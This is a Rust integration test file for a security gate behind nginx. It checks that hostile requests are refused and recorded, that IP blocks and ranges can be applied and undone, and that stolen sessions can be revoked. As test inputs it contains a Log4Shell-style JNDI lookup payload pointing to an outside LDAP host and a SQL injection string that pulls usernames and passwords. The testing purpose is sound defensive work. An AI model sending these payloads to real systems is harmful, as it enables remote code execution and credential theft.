//! Real nginx in front, the gate behind `auth_request`: the journey of a hostile client and of a revoked session.
#![allow(clippy::unwrap_used, clippy::expect_used)] // A test that meets the unexpected ends.

mod common;

use common::{Platform, free_port, http, wait_for};
use std::net::SocketAddr;
use std::path::Path;
use std::process::{Child, Command, Stdio};

/// nginx with its own configuration; ends with the test.
struct Nginx {
    child: Child,
    address: SocketAddr,
}

impl Nginx {
    fn start(dir: &Path, gate: SocketAddr) -> Self {
        let port = free_port();
        std::fs::create_dir_all(dir.join("www")).unwrap();
        std::fs::write(dir.join("www/index.html"), "welcome").unwrap();
        // The test plays many clients from one machine: nginx takes the client's address from a header it trusts.
        let conf = format!(
            "daemon off; pid {d}/nginx.pid; error_log {d}/error.log; events {{}}
             http {{
               access_log {d}/access.log combined;
               client_body_temp_path {d}/b; proxy_temp_path {d}/p; fastcgi_temp_path {d}/f; uwsgi_temp_path {d}/u;
               scgi_temp_path {d}/s;
               upstream gate {{ server {gate}; keepalive 8; }}
               server {{
                 listen 127.0.0.1:{port};
                 set_real_ip_from 127.0.0.1; real_ip_header X-Test-Client;
                 location / {{ auth_request /gate; root {d}/www; }}
                 location = /gate {{
                   internal; proxy_pass http://gate/v1/gate/check; proxy_http_version 1.1;
                   proxy_set_header Connection \"\"; proxy_pass_request_body off;
                   proxy_set_header Content-Length \"\"; proxy_set_header X-Real-IP $remote_addr;
                   proxy_set_header X-Original-URI $request_uri; proxy_set_header X-Original-Method $request_method;
                 }}
               }}
             }}",
            d = dir.display()
        );
        std::fs::write(dir.join("nginx.conf"), conf).unwrap();
        // Workers run as another user and must be able to read what they serve.
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(dir, mode).unwrap();
        let child = Command::new("nginx")
            .args(["-p", &dir.display().to_string(), "-c", &dir.join("nginx.conf").display().to_string()])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("nginx must be installed for this test");
        let address = SocketAddr::from(([127, 0, 0, 1], port));
        wait_for("nginx", || std::net::TcpStream::connect(address).ok());
        Self { child, address }
    }

    fn get(&self, client: &str, path: &str, cookie: Option<&str>) -> u16 {
        let client = format!("X-Test-Client: {client}");
        let cookie = cookie.map(|c| format!("Cookie: {c}"));
        let mut headers = vec![client.as_str(), "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"];
        headers.extend(cookie.as_deref());
        http(self.address, "GET", path, &headers).0
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = Command::new("kill").args(["-TERM", &self.child.id().to_string()]).status();
        let _ = self.child.wait();
    }
}

#[test]
#[ignore = "needs nginx"]
fn a_hostile_header_that_no_access_log_shows_is_refused_and_told() {
    let platform = Platform::start("");
    let dir = tempfile::tempdir().unwrap();
    let nginx = Nginx::start(dir.path(), platform.address);
    let lookup = ["X-Test-Client: 198.51.100.40", "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}"];
    assert_eq!(http(nginx.address, "GET", "/", &lookup).0, 403);
    let told = wait_for("the detection", || {
        let rows = platform.export("detections", "src_ip:198.51.100.40");
        rows.into_iter().find(|row| row["class"] == "lookup_injection")
    });
    assert!(told["why"].as_str().unwrap().contains("x-api-version"), "{told}");
}

const HOSTILE: &str = "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-";

#[test]
#[ignore = "needs nginx"]
fn a_hostile_client_is_refused_at_once_blocked_and_let_back_in_by_undo() {
    let platform = Platform::start("");
    let dir = tempfile::tempdir().unwrap();
    let nginx = Nginx::start(dir.path(), platform.address);

    for _ in 0..20 {
        assert_eq!(nginx.get("198.51.100.20", "/", None), 200, "an ordinary request passes");
    }
    assert_eq!(nginx.get("198.51.100.66", "/", None), 200, "nothing is known against the client yet");
    assert_eq!(nginx.get("198.51.100.66", HOSTILE, None), 403, "the first hostile request is refused");
    wait_for("the client to be refused everything", || (nginx.get("198.51.100.66", "/", None) == 403).then_some(()));
    assert_eq!(nginx.get("198.51.100.20", "/", None), 200, "others go on");

    let actions = wait_for("a verified block", || {
        let rows = platform.export("actions", "state:verified");
        (!rows.is_empty()).then_some(rows)
    });
    assert_eq!(actions.len(), 1, "{actions:?}");
    assert_eq!(actions[0]["target"], "198.51.100.66");
    assert_eq!(actions[0]["automatic"], true);
    let receipts = actions[0]["receipts"].as_array().unwrap();
    let of_gate = receipts.iter().filter(|r| r["enforcer"] == "gate" || r["enforcer"].is_null());
    let steps: Vec<_> = of_gate.map(|r| r["state"].as_str().unwrap()).collect();
    assert_eq!(steps, ["asked", "approved", "sent", "confirmed", "verified"]);

    platform.ok(&["block", "undo", &actions[0]["id"].to_string()]);
    assert_eq!(nginx.get("198.51.100.66", "/", None), 200, "undo lets it back in");
    // A block does not wait for its grounds to be stored, so the incident may appear after it.
    let incidents = wait_for("a contained incident", || {
        let rows = platform.export("incidents", "");
        rows.iter().any(|incident| incident["contained"].is_string()).then_some(rows)
    });
    assert_eq!(incidents.len(), 1, "{incidents:?}");
    assert_eq!(incidents[0]["entity"]["value"], "198.51.100.66");
    assert!(platform.ok(&["ledger", "verify"]).contains("intact"));
}

#[test]
#[ignore = "needs nginx"]
fn a_blocked_range_covers_the_neighbour_and_spares_the_rest() {
    let platform = Platform::start("");
    let dir = tempfile::tempdir().unwrap();
    let nginx = Nginx::start(dir.path(), platform.address);
    let refused = platform.run(&["block", "add", "198.51.0.0/16", "--reason", "too much"]);
    assert_eq!(refused.status.code(), Some(5), "{}", String::from_utf8_lossy(&refused.stderr));
    platform.ok(&["block", "add", "198.51.100.64/27", "--ttl", "1h", "--reason", "a sweep from three neighbours"]);
    assert_eq!(nginx.get("198.51.100.65", "/", None), 403);
    assert_eq!(nginx.get("198.51.100.95", "/", None), 403);
    assert_eq!(nginx.get("198.51.100.96", "/", None), 200);
}

#[test]
#[ignore = "needs nginx"]
fn a_revoked_session_gets_401_and_the_users_other_session_goes_on() {
    let platform = Platform::start("");
    let dir = tempfile::tempdir().unwrap();
    let nginx = Nginx::start(dir.path(), platform.address);
    let (stolen, own) = ("session=stolen-7f3a9c", "session=own-1b2c3d");
    assert_eq!(nginx.get("198.51.100.30", "/", Some(stolen)), 200);
    assert_eq!(nginx.get("198.51.100.31", "/", Some(own)), 200);

    let seen = wait_for("the session as an event", || {
        let rows = platform.export("audit", "src_ip:198.51.100.30");
        rows.iter().find_map(|r| r["session"].as_str().map(str::to_owned))
    });
    assert!(!seen.contains("stolen"), "an event must hold a fingerprint, not the secret: {seen}");
    platform.ok(&["session", "revoke", &seen, "--reason", "token theft"]);
    assert_eq!(nginx.get("198.51.100.30", "/", Some(stolen)), 401, "the stolen session is refused");
    assert_eq!(nginx.get("198.51.100.30", "/", Some(own)), 200, "the other session goes on, even from there");
    assert_eq!(nginx.get("198.51.100.31", "/", Some(own)), 200);
}
